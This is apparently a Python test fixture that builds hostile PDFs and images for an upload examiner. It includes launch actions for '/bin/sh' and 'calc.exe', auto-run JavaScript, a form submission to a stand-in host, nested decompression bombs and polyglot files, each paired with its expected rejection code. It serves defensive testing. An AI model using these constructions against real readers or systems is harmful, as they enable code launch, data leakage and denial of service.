"""A hostile file for every rule of the examiner, each made here by changing a good one."""

import io
import zlib
from collections.abc import Callable, Iterator
from dataclasses import dataclass, replace
from typing import Any

import pikepdf
from pikepdf import Array, Dictionary, Name, Pdf, String
from PIL import Image

from archive.isolation.child import Limits
from ingest.files.limits import FILE_LIMITS, FileLimits
from tests.ingest.files.papers import image_file, plain_pdf

SMALL = replace(
    FILE_LIMITS,
    pdf=replace(FILE_LIMITS.pdf, pages=2, objects=400, decoded_bytes=4 << 20, embedded_files=2),
    image=replace(FILE_LIMITS.image, pages=2, pixels=4_000_000, side=3000),
)


@dataclass(frozen=True)
class Hostile:
    """A file, its name, and the code with which it must be refused."""

    id: str
    code: str
    data: bytes
    name: str = "a.pdf"
    limits: FileLimits = FILE_LIMITS


def changed(change: Callable[[Pdf], object], **saved: Any) -> bytes:
    """Return a good PDF after `change`."""
    with pikepdf.open(io.BytesIO(plain_pdf())) as pdf:
        change(pdf)
        out = io.BytesIO()
        pdf.save(out, **saved)
    return out.getvalue()


def action(**entries: Any) -> Callable[[Pdf], None]:
    """Return a change that adds an action which runs when the file is opened."""

    def add(pdf: Pdf) -> None:
        pdf.Root.OpenAction = pdf.make_indirect(Dictionary(Type=Name.Action, **entries))

    return add


def _on_a_link(pdf: Pdf) -> None:
    link = Dictionary(Type=Name.Annot, Subtype=Name.Link, Rect=Array([0, 0, 9, 9]))
    link.A = Dictionary(S=Name.Launch, F=String("calc.exe"))
    pdf.pages[0].obj.Annots = Array([pdf.make_indirect(link)])


def _in_the_names(pdf: Pdf) -> None:
    script = pdf.make_indirect(Dictionary(S=Name.JavaScript, JS=String("app.alert(1)")))
    pdf.Root.Names = Dictionary(JavaScript=Dictionary(Names=Array([String("x"), script])))


def _orphan(pdf: Pdf) -> None:
    """Leave a script that nothing shows any more, kept by a key that no reader knows."""
    pdf.Root["/Kept"] = Dictionary(
        Deep=Array([Array([Dictionary(S=Name.JavaScript, JS=String("1"))])])
    )


def _xfa(pdf: Pdf) -> None:
    pdf.Root.AcroForm = Dictionary(Fields=Array([]), XFA=pdf.make_stream(b"<xdp/>"))


def _no_pages(pdf: Pdf) -> None:
    del pdf.pages[0]


def _more_pages(pdf: Pdf) -> None:
    for _ in range(3):
        pdf.add_blank_page()


def _page_sides(*sides: float) -> Callable[[Pdf], None]:
    def change(pdf: Pdf) -> None:
        pdf.pages[0].obj.MediaBox = Array([0, 0, *sides])

    return change


def _many_objects(pdf: Pdf) -> None:
    pdf.Root.Many = Array([pdf.make_indirect(Dictionary(N=number)) for number in range(500)])


def _deep(pdf: Pdf) -> None:
    inner = Array([1])
    for _ in range(80):
        inner = Array([inner])
    pdf.Root.Deep = inner


def _bomb(pdf: Pdf) -> None:
    packed = zlib.compress(bytes(8 << 20), 9)
    stream = pikepdf.Stream(pdf, packed)
    stream.Filter = Name.FlateDecode
    pdf.Root.Bomb = pdf.make_indirect(stream)


def _chained_bomb(pdf: Pdf) -> None:
    # larger than the free room that a child may find in the memory that it has already
    packed = zlib.compress(zlib.compress(bytes(200 << 20), 9), 9)
    stream = pikepdf.Stream(pdf, packed)
    stream.Filter = Array([Name.FlateDecode, Name.FlateDecode])
    pdf.Root.Bomb = pdf.make_indirect(stream)


def _huge_picture(pdf: Pdf) -> None:
    stream = pikepdf.Stream(pdf, b"\0")
    stream.Type, stream.Subtype, stream.Width, stream.Height = (
        Name.XObject,
        Name.Image,
        1_000_000,
        1_000_000,
    )
    pdf.Root.Picture = pdf.make_indirect(stream)


def _many_embedded(pdf: Pdf) -> None:
    for number in range(4):
        pdf.attachments[f"{number}.txt"] = b"x"


def _portfolio(pdf: Pdf) -> None:
    pdf.Root.Collection = Dictionary(Type=Name.Collection)


def _encrypted(password: str) -> bytes:
    return changed(lambda pdf: None, encryption=pikepdf.Encryption(owner="o", user=password))


def corpus() -> Iterator[Hostile]:
    """Yield every hostile file."""
    good = plain_pdf()
    yield Hostile("empty", "file.empty", b"")
    yield Hostile("too large", "file.too_large", good, limits=replace(FILE_LIMITS, file_bytes=100))
    yield Hostile("program", "file.unknown_kind", b"\x7fELF" + bytes(100))
    yield Hostile("archive", "file.unknown_kind", b"PK\x03\x04" + bytes(100), "a.docx")
    yield Hostile("picture named pdf", "file.name_differs", image_file("PNG"))
    yield Hostile("pdf named picture", "file.name_differs", good, "a.jpg")
    yield Hostile("junk before", "pdf.junk_before", b"GIF89a" + good)
    yield Hostile("archive after", "pdf.junk_after", good + b"PK\x03\x04 and more")
    yield Hostile("script after", "pdf.junk_after", good + b"<script>1</script>\n")
    yield Hostile("cut in half", "pdf.truncated", good[: len(good) // 2])
    yield Hostile("cut at its end", "pdf.truncated", good[:-9])
    yield Hostile("header alone", "pdf.truncated", b"%PDF-1.7\n")
    yield Hostile("no table", "pdf.damaged", good.replace(b"startxref", b"startxxxx"))
    yield Hostile("wrong table", "pdf.damaged", b"%PDF-1.7\nstartxref\n5\n%%EOF\n")
    yield Hostile("password", "pdf.encrypted", _encrypted("secret"))
    yield Hostile("encrypted without password", "pdf.encrypted", _encrypted(""))
    yield Hostile("no pages", "pdf.no_pages", changed(_no_pages))
    yield Hostile("too many pages", "pdf.pages", changed(_more_pages), limits=SMALL)
    yield Hostile("endless page", "pdf.page_size", changed(_page_sides(600, 9_000_000)))
    yield Hostile("page without area", "pdf.page_size", changed(_page_sides(0, 800)))
    yield Hostile("too many objects", "pdf.objects", changed(_many_objects), limits=SMALL)
    yield Hostile("nested", "pdf.depth", changed(_deep))
    yield Hostile("bomb", "pdf.decoded_bytes", changed(_bomb), limits=SMALL)
    yield Hostile("bomb in a bomb", "pdf.decoded_bytes", changed(_chained_bomb), limits=SMALL)
    yield Hostile("picture of a terapixel", "image.pixels", changed(_huge_picture))
    yield Hostile("embedded files", "pdf.embedded_files", changed(_many_embedded), limits=SMALL)
    yield Hostile(
        "script", "pdf.script", changed(action(S=Name.JavaScript, JS=String("app.alert(1)")))
    )
    yield Hostile("script by name", "pdf.script", changed(_in_the_names))
    yield Hostile("script that nothing shows", "pdf.script", changed(_orphan))
    yield Hostile("launch", "pdf.launch", changed(action(S=Name.Launch, F=String("/bin/sh"))))
    yield Hostile("launch by a link", "pdf.launch", changed(_on_a_link))
    yield Hostile(
        "submit", "pdf.sends", changed(action(S=Name.SubmitForm, F=String("http://192.0.2.1/")))
    )
    yield Hostile("import", "pdf.sends", changed(action(S=Name.ImportData, F=String("x.fdf"))))
    yield Hostile(
        "other file", "pdf.leaves", changed(action(S=Name.GoToR, F=String("//192.0.2.1/x.pdf")))
    )
    yield Hostile(
        "embedded file opened", "pdf.leaves", changed(action(S=Name.GoToE, T=Dictionary()))
    )
    yield Hostile("hides", "pdf.active", changed(action(S=Name.Hide, T=String("x"))))
    yield Hostile("plays", "pdf.active", changed(action(S=Name.Rendition)))
    yield Hostile("xfa", "pdf.xfa", changed(_xfa))
    yield Hostile("portfolio", "pdf.portfolio", changed(_portfolio))
    good_table = changed(lambda pdf: None)
    yield Hostile(
        "pages that readers count differently",
        "pdf.ambiguous",
        good_table.replace(b"/Count 1", b"/Count 9"),
    )
    hurried = replace(FILE_LIMITS, examine=Limits(seconds=0.001))
    yield Hostile("no time", "file.too_demanding", good, limits=hurried)
    poor = replace(FILE_LIMITS, examine=Limits(memory=1 << 20))
    # its pixels take more than the free room in the memory that the child has already
    yield Hostile("no memory", "file.too_demanding", _many_pixels(), "a.png", poor)
    yield from _images()


def _many_pixels() -> bytes:
    """A small file with 144 MB of pixels, which are within the limit."""
    out = io.BytesIO()
    Image.new("RGB", (8000, 6000)).save(out, "PNG")
    return out.getvalue()


def _many_scans() -> bytes:
    """A progressive JPEG whose last scan comes again and again."""
    out = io.BytesIO()
    Image.new("L", (100, 100)).save(out, "JPEG", progressive=True)
    data = out.getvalue()
    last, end = data.rfind(b"\xff\xda"), len(data) - 2
    return data[:end] + data[last:end] * FILE_LIMITS.image.scans + data[end:]


def _images() -> Iterator[Hostile]:
    for kind, suffix in (("JPEG", "jpg"), ("PNG", "png"), ("TIFF", "tif")):
        data = image_file(kind)
        yield Hostile(f"cut {kind}", "image.damaged", data[: len(data) // 2], f"a.{suffix}")
        yield Hostile(f"beginning of {kind}", "image.damaged", data[:12], f"a.{suffix}")
    for kind, suffix in (("JPEG", "jpg"), ("PNG", "png")):
        data = image_file(kind)
        yield Hostile(
            f"{kind} with an archive behind it", "image.junk_after", data + b"PK\3\4", f"a.{suffix}"
        )
        yield Hostile(
            f"{kind} with a picture behind it",
            "image.junk_after",
            data + bytes(9) + data,
            f"a.{suffix}",
        )
    yield Hostile("JPEG that claims several pictures", "image.junk_after", _stereo(), "a.jpg")
    yield Hostile(
        "JPEG without its end",
        "image.damaged",
        image_file("JPEG").removesuffix(b"\xff\xd9"),
        "a.jpg",
    )
    gap = image_file("JPEG").replace(b"\xff\xdb", b"secret\xff\xdb", 1)  # libjpeg passes over it
    yield Hostile("JPEG with data between its parts", "image.damaged", gap, "a.jpg")
    yield Hostile("JPEG of many scans", "image.scans", _many_scans(), "a.jpg")
    yield Hostile(
        "tiff pages", "image.pages", image_file("TIFF", pages=3, resolution=40), "a.tif", SMALL
    )
    yield Hostile("wide", "image.side", _blank(3100, 60), "a.png", SMALL)
    yield Hostile("pixels", "image.pixels", _blank(2100, 2100), "a.png", SMALL)
    yield Hostile("moving", "image.animated", _moving(), "a.png")
    yield Hostile("a dot", "image.too_small", _blank(1, 1), "a.png")
    yield Hostile("image and pdf", "pdf.junk_before", _blank(100, 100)[:200] + plain_pdf(), "a")


def _blank(width: int, height: int) -> bytes:
    out = io.BytesIO()
    Image.new("1", (width, height), 1).save(out, "PNG")
    return out.getvalue()


def _stereo() -> bytes:
    """Return two pictures as a camera for depth writes them (CIPA DC-007): most viewers show the
    first.
    """
    left, right = (Image.new("L", (100, 100), grey) for grey in ("white", "black"))
    out = io.BytesIO()
    left.save(out, "MPO", save_all=True, append_images=[right])
    return out.getvalue()


def _moving() -> bytes:
    """Return a PNG that shows one picture to who knows no animations (APNG), and another to
    everybody else.
    """
    still, moved = (Image.new("L", (100, 100), grey) for grey in ("white", "black"))
    out = io.BytesIO()
    still.save(out, "PNG", save_all=True, append_images=[moved], default_image=True)
    return out.getvalue()
